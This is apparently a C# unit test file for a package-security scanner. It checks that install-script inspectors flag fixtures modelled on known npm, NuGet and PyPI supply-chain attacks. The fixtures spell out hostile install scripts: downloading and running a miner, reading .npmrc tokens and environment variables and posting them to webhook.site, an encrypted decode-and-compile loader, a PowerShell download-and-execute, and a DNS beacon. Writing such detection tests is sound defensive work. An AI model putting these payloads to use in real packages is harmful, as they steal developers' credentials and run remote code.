using PackGuard.Findings;
using PackGuard.Inspectors.Install;
using PackGuard.Scanning;
using PackGuard.Tests.Scanning;
using PackGuard.Tests.Support;

namespace PackGuard.Tests.Inspectors.Install;

/// <summary>
/// Fixtures modelled on the behaviour of real malicious install scripts from public incident
/// reports (written here, not copied): each must come out high, for the reason it was malicious.
/// </summary>
public sealed class MaliciousInstallFixtureTests
{
    private static ScanResult Npm(string scripts, params TestFile[] files) =>
        ScanFixture.ScanBytes(TestArchive.NpmTarball([TestFile.Text("package.json", "{\"name\":\"victim\",\"version\":\"9.9.9\",\"license\":\"MIT\",\"scripts\":{" + scripts + "}}"), .. files]), "victim.tgz");

    private static IReadOnlyList<(string Rule, string Path)> Highs(ScanResult result) =>
        [.. result.Findings.Where(f => f.RuleId.StartsWith("install/", StringComparison.Ordinal) && f.Severity == Severity.High).Select(f => (f.RuleId, f.Location.Path))];

    /// <summary>ua-parser-js 0.7.29 (October 2021): a preinstall started a script per OS that downloaded a miner (and on Windows a DLL) from a raw IP and ran it.</summary>
    [Fact]
    public void A_preinstall_that_drops_and_starts_a_miner_per_platform()
    {
        var result = Npm("\"preinstall\":\"start /B node preinstall.js & node preinstall.js\"",
            TestFile.Text("preinstall.js", "const os = require('os');\nconst { exec } = require('child_process');\nif (os.type() === 'Linux') exec('bash ./preinstall.sh');\nelse if (os.type() === 'Windows_NT') exec('preinstall.bat');\n"),
            TestFile.Text("preinstall.sh", "#!/bin/bash\nC=$(curl -sk https://geo.example/country)\nif [ \"$C\" != \"XX\" ]; then\n  curl -s http://198.51.100.23/download/worker -o worker || wget -q http://198.51.100.23/download/worker -O worker\n  chmod +x worker\n  ./worker --pool pool.example:443 --background >/dev/null 2>&1 &\nfi\n"),
            TestFile.Text("preinstall.bat", "@echo off\ncurl http://198.51.100.23/download/worker.exe -o worker.exe\nstart /B .\\worker.exe --pool pool.example:443\nregsvr32.exe -s helper.dll\n"));

        Highs(result).ShouldContain((InstallRules.DownloadsAndRuns, "package/preinstall.sh"));
        Highs(result).ShouldContain((InstallRules.DownloadsAndRuns, "package/preinstall.bat"));
        result.Single(InstallRules.NpmScript).Properties["files"]!.AsArray().Select(f => f!.GetValue<string>())
            .ShouldBe(["package/preinstall.js", "package/preinstall.sh", "package/preinstall.bat"]);
    }

    /// <summary>Shai-Hulud (September 2025): postinstall ran a minified bundle that read ~/.npmrc and the environment for tokens and posted them to webhook.site.</summary>
    [Fact]
    public void A_postinstall_bundle_that_steals_tokens_and_posts_them_to_a_webhook()
    {
        var padding = string.Concat(Enumerable.Range(0, 3000).Select(i => $"var a{i}=function(b){{return b+{i}}};"));
        var bundle = padding
            + "const o=require('os'),p=require('path'),f=require('fs'),h=require('https');"
            + "let t={};try{t.npm=f.readFileSync(p.join(o.homedir(),'.npmrc'),'utf8')}catch(e){}"
            + "t.env=JSON.stringify(process.env);"
            + "const r=h.request({hostname:'webhook.site',path:'/bb8ca5f6-0000-4000-8000-000000000000',method:'POST'});r.end(Buffer.from(JSON.stringify(t)).toString('base64'));"
            + padding;
        var result = Npm("\"postinstall\":\"node bundle.js\"", TestFile.Text("bundle.js", bundle));

        Highs(result).ShouldBe([
            (InstallRules.ExfiltrationEndpoint, "package/bundle.js"),
            (InstallRules.ReadsCredentials, "package/bundle.js"),
            (InstallRules.ReadsEnvironment, "package/bundle.js"),
        ], ignoreOrder: true);
        var credential = result.Single(InstallRules.ReadsCredentials);
        credential.Location.Line.ShouldBe(1);
        credential.Properties["excerpt"]!.GetValue<string>().ShouldStartWith("…");
        credential.Properties["excerpt"]!.GetValue<string>().Length.ShouldBeLessThan(160);
    }

    /// <summary>event-stream / flatmap-stream (2018): a hex-encoded, AES-encrypted payload decrypted with a key from the environment and compiled as a module.</summary>
    [Fact]
    public void A_hex_encoded_encrypted_payload_compiled_as_a_module()
    {
        var result = Npm("\"postinstall\":\"node lib/index.js\"",
            TestFile.Text("lib/index.js", "module.exports = require('./stream');\n"),
            TestFile.Text("lib/stream.js", "!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,\"hex\").toString()}var n=r(e(\"2e2f746573742f64617461\")),o=t.env[e(n[3])];if(!o)return;var u=r(\"crypto\").createDecipher(\"aes256\",o),a=u.update(n[0],\"hex\",\"utf8\");a+=u.final(\"utf8\");var f=new module.constructor;f.paths=module.paths,f._compile(a,\"\"),f.exports(n[1])}catch(r){}}();\n"));

        Highs(result).ShouldContain((InstallRules.DecodesAndRuns, "package/lib/stream.js"));
    }

    /// <summary>nx "s1ngularity" (August 2025): a postinstall collected GitHub and npm tokens, wallets and SSH keys, and the environment.</summary>
    [Fact]
    public void A_postinstall_that_inventories_wallets_keys_and_tokens()
    {
        var result = Npm("\"postinstall\":\"node telemetry.js\"",
            TestFile.Text("telemetry.js", "const { execSync } = require('child_process');\nconst home = require('os').homedir();\nconst targets = ['.ssh/', 'wallet.dat', 'Exodus', 'solana/id.json', '.env'];\nlet gh = '';\ntry { gh = execSync('gh auth token').toString(); } catch {}\nconst result = { env: process.env, gh };\nrequire('fs').writeFileSync('/tmp/inventory.txt', Buffer.from(JSON.stringify(result)).toString('base64'));\n"));

        Highs(result).ShouldContain((InstallRules.ReadsCredentials, "package/telemetry.js"));
        result.Single(InstallRules.ReadsCredentials).Properties["occurrences"]!.GetValue<int>().ShouldBeGreaterThanOrEqualTo(2);
    }

    /// <summary>Malicious NuGet packages (2023 reports): tools/init.ps1 downloaded an executable and started it when the solution opened.</summary>
    [Fact]
    public void A_nuget_init_script_that_downloads_and_starts_an_executable()
    {
        var result = ScanFixture.ScanBytes(TestArchive.Zip([
            TestFile.Text("Coin.Core.nuspec", """<?xml version="1.0"?><package><metadata><id>Coin.Core</id><version>1.0.0</version></metadata></package>"""),
            TestFile.Text("tools/init.ps1", "param($installPath, $toolsPath, $package, $project)\n$u = 'https://x.example/' + 'update.exe'\n$o = Join-Path $env:APPDATA 'svc.exe'\n(New-Object System.Net.WebClient).DownloadFile($u, $o)\nStart-Process -FilePath $o -WindowStyle Hidden\n"),
        ]), "coin.core.1.0.0.nupkg");

        Highs(result).ShouldBe([(InstallRules.DownloadsAndRuns, "tools/init.ps1")]);
        result.Single(InstallRules.DownloadsAndRuns).Location.Line.ShouldBe(4);
    }

    /// <summary>PyPI malware: setup.py running an encoded payload, and one sending the environment home (the 2022 ctx hijack sent os.environ).</summary>
    [Fact]
    public void Setup_py_payloads_of_pypi_malware()
    {
        var sdist = TestArchive.TarGz([
            TestFile.Text("helper-0.1/PKG-INFO", "Metadata-Version: 2.1\nName: helper\nVersion: 0.1\n"),
            TestFile.Text("helper-0.1/setup.py", "from setuptools import setup\nfrom setuptools.command.install import install\nimport base64, os, urllib.request\n\nclass Post(install):\n    def run(self):\n        urllib.request.urlopen('https://x.example/c', data=str(os.environ).encode())\n        exec(base64.b64decode('aW1wb3J0IG9z'))\n        install.run(self)\n\nsetup(name='helper', cmdclass={'install': Post})\n"),
        ]);

        var result = ScanFixture.ScanBytes(sdist, "helper-0.1.tar.gz");

        Highs(result).ShouldBe([(InstallRules.DecodesAndRuns, "helper-0.1/setup.py"), (InstallRules.ReadsEnvironment, "helper-0.1/setup.py")], ignoreOrder: true);
        result.Single(InstallRules.SetupPy).Severity.ShouldBe(Severity.Info);
    }

    /// <summary>Dependency-confusion probes: a preinstall that beacons host details to an out-of-band interaction host.</summary>
    [Fact]
    public void A_preinstall_beacon_to_an_interaction_host()
    {
        var result = Npm("\"preinstall\":\"curl -s https://$(hostname).$(whoami).d1e2f3.oast.pro/ >/dev/null || true\"");

        Highs(result).ShouldBe([(InstallRules.ExfiltrationEndpoint, "package/package.json")]);
    }
}
